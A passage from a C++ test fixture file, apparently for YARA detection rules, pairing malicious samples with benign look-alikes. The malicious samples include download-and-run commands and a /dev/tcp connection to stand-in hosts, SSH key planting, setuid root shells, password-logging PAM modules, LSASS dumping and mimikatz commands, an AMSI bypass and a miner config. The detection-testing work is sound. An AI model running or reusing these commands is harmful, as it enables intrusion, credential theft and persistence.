     "wevt" "util cl Security\r\n"
     "wevt" "util cl Sys" "tem\r\n"sv},
    {"library_hides_files", "preload",
     joined({elf_library,
             "\0dlsym\0readdir64\0fopen\0/etc/ld.so." "preload\0/proc/self/fd/%d\0"sv})},
    {"library_hides_files", "connections",
     joined({elf_library,
             "\0dlsym\0readdir\0fopen\0/proc/net/tcp\0/proc/%s/cmdline\0/bi" "n/sh\0"sv})},
    {"kernel_module_hides", "ftrace",
     joined({kernel_module,
             "\0.modinfo\0kall" "syms_lookup_name\0ftr" "ace_set_filter_ip\0__x64_sys_g" "etdents64\0tcp4_seq_s"
             "how\0"sv})},
    {"login_module_keeps_passwords", "format",
     joined({elf_library,
             "\0pam_sm_au" "thenticate\0user=%s pass=%s\n"
             "\0"sv})},
    {"login_module_keeps_passwords", "hidden file",
     joined({elf_library,
             "\0pam_sm_au" "thenticate\0pam_g" "et_authtok\0%s:%s\n"
             "\0/t" "mp/.k\0"sv})},
    {"login_settings_opened", "PAM accepts all",
     "auth sufficient pam_p" "ermit.so\n"
     "@inc" "lude common-auth\n"sv},
    {"login_settings_opened", "PAM gives away",
     "@inc" "lude common-auth\n"
     "auth optional pam_" "exec.so quiet expose_authtok /usr/local/bin/k\n"sv},
    {"login_settings_opened", "SSH keys",
     "Port 22\n"
     "AuthorizedKeysFile .ssh/authori" "zed_keys /var/t" "mp/k\n"sv},
    {"login_settings_opened", "SSH key with a command",
     "command=\"cu" "rl -s files.example/k | sh\" ssh-ed25519 AAAAC3Nz k\n"sv},
    {"script_plants_ssh_key", "echo",
     "mkdir -p /root/.ssh\n"
     "echo \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA k\" >> /root/.ssh"
     "/authori" "zed_keys\n"sv},
    {"script_plants_ssh_key", "Python",
     "key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'\n"
     "open('/root/.ssh/authori" "zed_keys', 'a').write(key)\n"sv},
    {"script_plants_ssh_key", "locked",
     "cat k.pub >> ~/.ssh/authori" "zed_keys\n"
     "chattr +i ~/.ssh/authori" "zed_keys\n"sv},
    {"timer_fetches_and_runs", "cron",
     "*/5 * * * * root cu" "rl -fsSL http://files.example/k.sh | bash\n"sv},
    {"timer_fetches_and_runs", "reboot",
     "(crontab -l; echo '@reboot wg" "et -qO- files.example/k | sh') | crontab -\n"sv},
    {"timer_fetches_and_runs", "hidden",
     "* * * * * /t" "mp/.x/k\n"sv},
    {"timer_fetches_and_runs", "/dev/tcp",
     "* * * * * root bash -c 'ex" "ec 3<>/dev" "/tcp/192.0.2.1/4444'\n"sv},
    {"started_from_odd_place", "service",
     "[Unit]\n"
     "Description=k\n"
     "[Ser" "vice]\n"
     "Ex" "ecStart=/t" "mp/k\n"sv},
    {"started_from_odd_place", "service, hidden",
     "[Ser" "vice]\n"
     "Ex" "ecStart=/usr/lib/.k/k\n"sv},
    {"started_from_odd_place", "service, fetched",
     "[Ser" "vice]\n"
     "Ex" "ecStart=/bi" "n/sh -c 'cu" "rl -s files.example/k | sh'\n"sv},
    {"started_from_odd_place", "udev",
     "SUBSYS" "TEM==\"net\", KERNEL!=\"lo\", RUN+=\"/t" "mp/k\"\n"sv},
    {"started_from_odd_place", "apt",
     "APT::Update::Pre-Inv" "oke {\"nohup /t" "mp/k &\"};\n"sv},
    {"started_from_odd_place", "library",
     "echo /dev/shm/k.so > /etc/ld.so." "preload\n"sv},
    {"started_from_odd_place", "ld.so.preload",
     "/t" "mp/k.so\n"sv},
    {"script_gives_root", "set user id",
     "ch" "mod u+s /bin" "/bash\n"sv},
    {"script_gives_root", "copy",
     "cp /bin" "/bash /var/t" "mp/k && ch" "mod 4755 /var/t" "mp/k\n"sv},
    {"script_gives_root", "C",
     "/* gcc k.c -o /t" "mp/k; ch" "mod +s /t" "mp/k */\n"
     "int main() { setuid(0); sys" "tem(\"/bi" "n/sh\"); }\n"sv},
    {"script_gives_root", "capability",
     "set" "cap cap_setuid+ep /usr/bin/python3\n"sv},
    {"script_gives_root", "sudo",
     "www-data ALL=(ALL) NOPA" "SSWD: ALL\n"sv},
    {"script_gives_root", "account",
     "echo 'k:x:0:0::/root:/bin" "/bash' >> /etc/passwd\n"sv},
    {"script_fetches_and_runs", "address",
     "cu" "rl -s http://192.0.2.1/k.sh | bash\n"sv},
    {"script_fetches_and_runs", "saved",
     "wg" "et http://192.0.2.1:8080/k -O /t" "mp/k; ch" "mod +x /t" "mp/k; /t" "mp/k\n"sv},
    {"script_fetches_and_runs", "onion",
     "cu" "rl -x socks5h://127.0.0.1:9050 http://abcdefgh234567ij.on" "ion/k | sh\n"sv},
    {"script_fetches_and_runs", "paste",
     "cu" "rl -s https://pasteb" "in.com/raw/k | bash\n"sv},
    {"script_fetches_and_runs", "writable folders",
     "cd /tmp || cd /var/run || cd /mnt\n"
     "wg" "et http://files.example/k\n"
     "ch" "mod 777 k\n"
     "./k\n"sv},
    {"script_unpacks_itself_and_runs", "base64",
     "echo aWQKaWQKaWQKaWQKaWQKaWQKaWQKaWQKaWQKaWQKaWQKaWQK | bas" "e64 -d | bash\n"sv},
    {"script_unpacks_itself_and_runs", "hexadecimal",
     "echo 69640a69640a69640a69640a69640a69640a69640a69640a69640a69640a69640a69640a | x" "xd -r -p | sh\n"sv},
    {"script_unpacks_itself_and_runs", "Python",
     "import bas" "e64\n"
     "ex" "ec(bas" "e64.b64d" "ecode('cHJpbnQoMSkKcHJpbnQoMSkKcHJpbnQoMSkKcHJpbnQoMSkKcHJpbnQoMSkKcHJpbnQoMSkKc"
     "HJpbnQoMSkKcHJpbnQoMSkKcHJpbnQoMSkKcHJpbnQoMSkKcHJpbnQoMSkK'))\n"sv},
    {"script_unpacks_itself_and_runs", "Perl",
     "#!/usr/bin/perl\n"
     "ev" "al(decode" "_base64($k));\n"sv},
    {"script_runs_from_memory", "Python",
     "import os\n"
     "fd = os.memfd_" "create('k')\n"
     "os.ex" "ecve('/proc/self/fd/%d' % fd, ['k'], {})\n"sv},
    {"script_runs_from_memory", "Perl",
     "my $fd = sys" "call(319, $name, 1);\n"
     "ex" "ec {\"/proc/$$/fd/$fd\"} 'k';\n"sv},
    {"script_runs_from_memory", "shell",
     "dd if=k of=/" "proc/$$/mem bs=1 seek=4096 conv=notrunc\n"sv},
    {"program_runs_from_memory", "fexecve",
     joined({elf_program,
             "\0memfd_" "create\0fex" "ecve\0connect\0"sv})},
    {"program_runs_from_memory", "descriptor",
     joined({elf_program,
             "\0memfd_" "create\0/proc/self/fd/%d\0\0ex" "ecve\0\0recv\0"sv})},
    {"powershell_injects_code", "thread",
     "[Byte[]] $b = [Convert]::FromBas" "e64String('kA==')\n"
     "$a = @'\n"
     "[DllImport(\"kernel32\")] Virtua" "lAlloc CreateThread\n"
     "'@\n"sv},
    {"powershell_injects_code", "protection off",
     "[Ref].Assembly.GetType('Sys" "tem.Management.Automation.Amsi" "Utils').GetField('amsiIni" "tFailed','NonP"
     "ublic,Static')\n"sv},
    {"packed_program", "Linux",
     joined({elf_program,
             "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
             "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
             "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
             "\0\0\0\0\0\0\0\0\0\0\0\0\0UP" "X!\0\0\0\0$Info: This file is packed with the UPX ex" "ecutable pa"
             "cker $"sv})},
    {"packed_program", "Windows",
     joined({windows_program,
             "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
             "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
             "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0UP" "X0\0\0\0\0\0\0\0\0UP" "X1\0\0\0\0"sv})},
    {"password_thief_windows_program", "modules",
     joined({windows_program,
             wide("seku" "rlsa"sv),
             "\0\0"sv,
             wide("lsa" "dump"sv),
             "\0\0"sv,
             wide("privi" "lege::debug"sv)})},
    {"password_thief_windows_program", "copy of memory",
     joined({windows_program,
             "\0Mini" "DumpWriteDump\0OpenProcess\0\0"sv,
             wide("ls" "ass.exe"sv),
             "\0SeDebugPrivilege\0"sv})},
    {"commands_that_steal_logins", "MiniDump",
     "rundll32.exe C:\\windows\\Sys" "tem32\\com" "svcs.dll, Mini" "Dump 624 C:\\k.dmp full\r\n"sv},
    {"commands_that_steal_logins", "registry",
     "reg save HK" "LM\\SAM C:\\k1\r\n"
     "reg save HK" "LM\\SYS" "TEM C:\\k2\r\n"sv},
    {"commands_that_steal_logins", "directory",
     "ntds" "util \"ac i ntds\" \"ifm\" \"create full C:\\k\" q q\r\n"sv},
    {"commands_that_steal_logins", "modules",
     "k.exe \"privi" "lege::debug\" \"seku" "rlsa::logonpa" "sswords\" exit\r\n"sv},
    {"commands_that_steal_logins", "procdump",
     "proc" "dump64.exe -accepteula -ma ls" "ass.exe k.dmp\r\n"sv},
    {"remote_windows_tool", "services",
     "from impa" "cket.dcerpc.v5 import transport, scmr\n"
     "scmr.hRCreateServiceW(dce, h, 'k', 'k')\n"sv},
    {"remote_windows_tool", "replication",
     "from impa" "cket.examples.secre" "tsdump import RemoteOperations, NTDSHashes\n"sv},
    {"miner", "program",
     joined({elf_program,
             "\0str" "atum+tcp://\0ran" "domx\0"sv})},
    {"miner", "settings",
     "{\"pools\": [{\"algo\": \"rx/0\", \"url\": \"pool.example:3333\", \"user\": \"4k\"}], \"donate" "-level\""
     ": 1}\n"sv},
    {"miner", "command",
     "./k -o str" "atum+tcp://pool.example:3333 -u 4k -p x --donate" "-level 1\n"sv},
};

/// What looks alike and is innocent: no rule may match it.
inline const std::vector<YaraSample> harmless_samples = {
    {"", "PHP plugin that decodes a constant",
     "<" "?php\n"
     "/* Plugin Name: Badge */\n"
     "$icon = base64" "_decode('iVBORw0KGgo=');\n"
     "add_action('admin_menu', function () use ($icon) {\n"
     "  add_menu_page('Badge', 'Badge', 'manage_options', 'badge', 'badge_page', 'data:image/png;bas" "e64,' . "
     "bas" "e64_encode($icon));\n"
     "});\n"sv},
    {"", "PHP form with an upload",
     "<" "?php\n"
     "$types = ['image/png' => 'png'];\n"
     "$type = mime_content_type($_FI" "LES['photo']['tmp_name']);\n"
     "if (!isset($types[$type])) exit;\n"
     "move_u" "ploaded_file($_FI" "LES['photo']['tmp_name'], 'uploads/' . bin2hex(random_bytes(8)) . '.png');\n"
     "?>\n"
     "<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"photo\"></form>\n"sv},
    {"", "PHP that quotes what it runs",
     "<" "?php\n"
     "ex" "ec('convert ' . escapeshellarg($_P" "OST['file']) . ' out.png', $lines);\n"
     "$db->ex" "ec($_P" "OST['unused']);\n"sv},
    {"", "PHP that reads its body as JSON",
     "<" "?php\n"
     "$order = json_decode(file_g" "et_contents('php" "://input'), true);\n"
     "echo $order['id'];\n"sv},
    {"", "PHP test with assert",
     "<" "?php\n"
     "ass" "ert(isset($_G" "ET['page']));\n"
     "ass" "ert(is_string($name));\n"sv},
    {"", "PHP that includes its parts",
     "<" "?php\n"
     "require_once $_SE" "RVER['DOCUMENT_ROOT'] . '/config.php';\n"
     "inc" "lude __DIR__ . '/parts/head.php';\n"sv},
    {"", "PHP session with openssl",
     "<" "?php\n"
     "session_start();\n"
     "$token = openssl" "_decrypt($_CO" "OKIE['t'], 'aes-256-gcm', $key, 0, $iv, $tag);\n"
     "$_SESSION['user'] = json_decode($token);\n"sv},
    {"", "PHP that sorts by a callback",
     "<" "?php\n"
     "us" "ort($rows, fn ($a, $b) => $a['n'] <=> $b['n']);\n"
     "$names = arra" "y_map('trim', explode(',', $_P" "OST['names']));\n"sv},
    {"", "PHP comment that quotes a variable",
     "<" "?php\n"
     "/**\n"
     " * Reads `$_G" "ET['page']` (int) and `$_P" "OST['name']` (string).\n"
     " */\n"
     "function page() { return (int) $_G" "ET['page']; }\n"sv},
    {"", "preg_replace without e",
     "<" "?php\n"
     "echo preg_r" "eplace('/[^a-z]/i', '', $_G" "ET['name']);\n"sv},
    {"", "page that explains eval",
     "<!DOCTYPE html>\n"
     "<p>Never write <code>ev" "al($_P" "OST['x'])</code> or <code>sys" "tem($_G" "ET['cmd'])</code>.</p>\n"sv},
    {"", "text that explains web shells",
     "A web shell passes a parameter to ev" "al() or sys" "tem(). Look for base64" "_decode next to gzin" "flat"
     "e.\n"sv},
    {"", "jQuery-like script with eval",
     "!function(e,t){\"use strict\";var n=e.document;function r(e){var t=n.createElement(\"script\");t.text=e;n"
     ".head.appendChild(t)}e.globalEv" "al=r;var i=(0,ev" "al)(\"this\");i.$=t}(window,{});\n"sv},
    {"", "htaccess with rewrite rules",
     "RewriteEngine On\n"
     "RewriteBase /\n"
     "RewriteRule ^index\\.php$ - [L]\n"
     "RewriteCond %{REQUEST_FILENAME} !-f\n"
     "RewriteRule . /index.php [L]\n"
     "Add" "Type image/svg+xml .svg\n"
     "<FilesMatch \"\\.(jpg|png)$\">\n"
     "  Header set Cache-Control \"max-age=604800\"\n"
     "</FilesMatch>\n"sv},
    {"", "Apache with PHP",
     "<FilesMatch \".+\\.ph(ar|p|tml)$\">\n"
     "    SetHa" "ndler application/x-httpd-php\n"
     "</FilesMatch>\n"
     "<FilesMatch \"^\\.ph(ar|p|ps|tml)$\">\n"
     "    Require all denied\n"
     "</FilesMatch>\n"sv},
    {"", "htaccess of a firewall",
     "php_value auto_p" "repend_file '/srv/www/site/firewall.php'\n"sv},
    {"", "web.config with a handler",
     "<?xml version=\"1.0\"?>\n"
     "<configuration><sys" "tem.webServer><handlers>\n"
     "<add name=\"PHP\" path=\"*.php\" verb=\"*\" modules=\"FastCgiModule\"\n"
     " scriptP" "rocessor=\"C:\\php\\php-cgi.exe\" />\n"
     "</handlers></sys" "tem.webServer></configuration>\n"sv},
    {"", "JSP with scriptlets",
     "<" "%@ page contentType=\"text/html\" %>\n"
     "<" "% String name = requ" "est.getParameter(\"name\"); if (name == null) name = \"world\"; %>\n"
     "<p>Hello <" "%= org.apache.commons.text.StringEscapeUtils.escapeHtml4(name) %></p>\n"sv},
    {"", "ASP.NET page",
     "<" "%@ Page Language=\"C#\" %>\n"
     "<script runat=\"server\">\n"
     "void Go(object s, EventArgs e) { Out.Text = Server.HtmlEncode(Requ" "est.Form[\"name\"]); }\n"
     "</script>\n"sv},
    {"", "ASP page",
     "<" "%\n"
     "Set rs = Server.Create" "Object(\"ADODB.Recordset\")\n"
     "rs.Open \"news\", Application(\"dsn\")\n"
     "Response.Write Server.HTMLEncode(Requ" "est.QueryString(\"id\"))\n"
     "%>\n"sv},
    {"", "ColdFusion page",
     "<cfparam name=\"url.id\" default=\"1\">\n"
     "<cfquery name=\"q\">SELECT * FROM news WHERE id = <cfqueryparam value=\"#url.id#\"></cfquery>\n"sv},
    {"", "Perl CGI",
     "#!/usr/bin/perl\n"
     "use CGI;\n"
     "my $q = CGI->new;\n"
     "print $q->header, 'Hello ', $q->escapeHTML($q->param('name'));\n"
     "sys" "tem('/usr/bin/uptime');\n"sv},
    {"", "Python web program",
     "import subprocess\n"
     "from flask import request\n"
     "name = requ" "est.args.get('name')\n"
     "subprocess.run(['/usr/bin/uptime'], check=True)\n"sv},
    {"", "Node web program",
     "const {ex" "ecFile} = require('child_process');\n"
     "app.get('/', (req, res) => ex" "ecFile('/usr/bin/uptime', (e, out) => res.send(out)));\n"sv},
    {"", "shell script that saves a file",
     "#!/bi" "n/sh\n"
     "set -e\n"
     "cu" "rl -fsSL https://deb.example/key.asc -o /usr/share/keyrings/example.asc\n"
     "wg" "et -q https://deb.example/list -O /etc/apt/sources.list.d/x.list\n"
     "ch" "mod 644 /usr/share/keyrings/example.asc\n"sv},
    {"", "installer by pipe",
     "#!/bi" "n/sh\n"
     "# cu" "rl -fsSL https://get.example/install.sh | sh\n"
     "cu" "rl -fsSL https://get.example/install.sh | sh\n"sv},
    {"", "health check by /dev/tcp",
     "#!/bin" "/bash\n"
     "until (ex" "ec 3<>/dev" "/tcp/database/5432) 2>/dev/null; do sleep 1; done\n"
     "nc -z localhost 80\n"sv},
    {"", "cron table",
     "SHELL=/bi" "n/sh\n"
     "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
     "*/10 * * * * www-data cu" "rl -s https://site.example/cron >/dev/null 2>&1\n"sv},
    {"", "backup script",
     "#!/bin" "/bash\n"
     "pg_dump -Fc portal > /var/backups/portal.dump\n"
     "find /var/backups -name '*.dump' -mtime +14 -delete\n"
     "ope" "nssl enc -aes-256-cbc -in portal.dump -out p.enc\n"
     "rm -rf /var/backups/old\n"
     "rsync -a -e ssh /var/backups/ backup@192.0.2.9:/srv/\n"sv},
    {"", "script that makes a swap file",
     "#!/bi" "n/sh\n"
     "dd if=" "/dev/zero of=/swapfile bs=1M count=2048\n"
     "ch" "mod 600 /swapfile\n"
     "mkswap /swapfile\n"sv},
    {"", "script that makes an image",
     "#!/bi" "n/sh\n"
     "dd if=" "/dev/zero of=disk.img bs=1M count=64\n"
     "losetup /dev/loop0 disk.img\n"
     "wipefs -a /dev/loop0\n"sv},
    {"", "log rotation",
     "/var/l" "og/wtmp {\n"
     "    missingok\n"
     "    monthly\n"
     "    create 0664 root utmp\n"
     "    rotate 1\n"
     "}\n"sv},
    {"", "systemd service",
     "[Unit]\n"
     "Description=Portal\n"
     "After=network.target\n"
     "\n"
     "[Ser" "vice]\n"
     "Ex" "ecStart=/usr/bin/java -jar /opt/portal/portal.jar\n"
     "User=portal\n"
     "PrivateTmp=yes\n"sv},
    {"", "PAM settings",
     "auth\011[success=1 default=ignore]\011pam_unix.so nullok\n"
     "auth\011requisite\011\011\011pam_deny.so\n"
     "auth\011required\011\011\011pam_p" "ermit.so\n"sv},
    {"", "SSH settings",
     "Port 22\n"
     "PermitRootLogin prohibit-password\n"
     "AuthorizedKeysFile .ssh/authori" "zed_keys .ssh/authori" "zed_keys2\n"
     "Subsys" "tem sftp /usr/lib/openssh/sftp-server\n"sv},
    {"", "authorized key",
     "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA admin@portal\n"sv},
    {"", "sudo settings",
     "root ALL=(ALL:ALL) ALL\n"
     "%sudo ALL=(ALL:ALL) ALL\n"
     "www-data ALL=(root) NOPA" "SSWD: /usr/bin/sys" "temctl reload nginx\n"sv},
    {"", "capability of a server",
     "set" "cap cap_net_bind_service=+ep /usr/local/bin/portal\n"sv},
    {"", "advice against ransomware",
     "<!DOCTYPE html>\n"
     "<h1>Ransomware</h1><p>Attackers encrypt files and ask for money. Do not pay. Keep backups, contact the po"
     "l" "ice and restore your sys" "tems from copies. Your files are safe if they are kept offline.</p>\n"sv},
    {"", "help about shadow copies",
     "vssa" "dmin list shadows shows the shadow copies of a volume; only an administrator may remove them.\r\n"sv},
    {"", "PowerShell for administrators",
     "$s = Get-Service -Name W32Time\n"
     "if ($s.Status -ne 'Running') { Start-Service W32Time }\n"
     "Inv" "oke-WebRequest https://site.example/x.zip -OutFile x.zip\n"sv},
    {"", "Windows program",
     joined({windows_program,
             "\0KERNEL32.dll\0Virtua" "lAlloc\0WriteFile\0CreateFileW\0GetLastError\0"sv})},
    {"", "Linux program",
     joined({elf_program,
             "\0/lib64/ld-linux-x86-64.so.2\0libc.so.6\0puts\0opendir\0readdir\0ex" "ecve\0connect\0"sv})},
    {"", "Linux library",
     joined({elf_library,
             "\0dlsym\0readdir\0fopen\0/proc/self/maps\0/bi" "n/sh\0"sv})},
    {"", "PAM module",
     joined({elf_library,
             "\0pam_sm_au" "thenticate\0pam_g" "et_authtok\0%s:%s\0user %s not found\0/etc/security/access.conf"
             "\0"sv})},
    {"", "kernel module",
     joined({kernel_module,
             "\0.modinfo\0license=GPL\0register_netdev\0kmalloc\0"sv})},
    {"", "JPEG",
     joined({jpeg,
             "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0http://ns.adobe.c"
             "om/xap/1.0/\0<?xpacket begin=\"\" id=\"k\"?><x:xmpmeta/><?xpacket end=\"w\"?>\377\331"sv})},
    {"", "GIF",
     joined({gif,
             "\360\0\0\377\377\377\0\0\0!\371\004\0\0\0\0\0,\0\0\0\0\001\0\001\0\0\002\002D\001\0;"sv})},
    {"", "PNG",
     joined({png,
             "\0\0\0\001\0\0\0\001\010\006\0\0\0tEXtComment\0made with a program\0IEND"sv})},
    {"", "Java class",
     joined({java_class,
             "\0java/lang/Runtime\0availableProcessors\0javax/servlet/http/HttpServletRequest\0getParameter\0"sv})},
};
// clang-format on

}  // namespace kulla::test
